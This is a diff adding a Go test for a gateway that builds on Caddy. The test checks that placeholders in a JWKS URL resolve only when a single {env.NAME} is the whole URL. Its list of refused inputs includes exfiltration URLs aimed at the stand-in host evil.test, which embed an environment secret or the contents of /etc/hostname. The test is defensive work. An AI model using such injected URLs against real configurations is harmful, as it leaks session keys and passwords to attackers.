@@ -153,3 +153,36 @@ func connCounter(t *testing.T) (addr string, hits *atomic.Int32) {
 	}()
 	return l.Addr().String(), hits
 }
+
+// Secret exfiltration through a key-set URL: it is fetched, so a
+// {file.*} or {env.*} inside it (a tenants file generated from customers'
+// input) would send the gateway's session key or Redis password to the
+// URL's host, in the query or by DNS. Only one placeholder starting the
+// URL, as {env.NAME} (a base URL: its value names the host), is resolved.
+func TestJWKSURLPlaceholdersOnlyWhole(t *testing.T) {
+	t.Setenv("EG_TEST_SECRET", "s3cret-value")
+	t.Setenv("EG_TEST_JWKS_URL", "https://idp.test/jwks")
+	repl := caddy.NewReplacer()
+	for _, bad := range []string{
+		"https://evil.test/k?x={env.EG_TEST_SECRET}",
+		"https://{env.EG_TEST_SECRET}.evil.test/k",
+		"https://evil.test/k?x={file./etc/hostname}",
+		"{file./etc/hostname}",
+		"{env.EG_TEST_JWKS_URL}?x={env.EG_TEST_SECRET}",
+		"https://evil.test/{}",
+	} {
+		got, err := resolveURL(repl, bad)
+		if err == nil || strings.Contains(got, "s3cret") || strings.Contains(err.Error(), "s3cret") {
+			t.Errorf("%s: resolved to %q (%v), want refused", bad, got, err)
+		}
+	}
+	for in, want := range map[string]string{
+		"{env.EG_TEST_JWKS_URL}": "https://idp.test/jwks",
+		"https://idp.test/jwks":  "https://idp.test/jwks",
+		"":                       "",
+	} {
+		if got, err := resolveURL(repl, in); err != nil || got != want {
+			t.Errorf("%q: %q %v, want %q", in, got, err, want)
+		}
+	}
+}
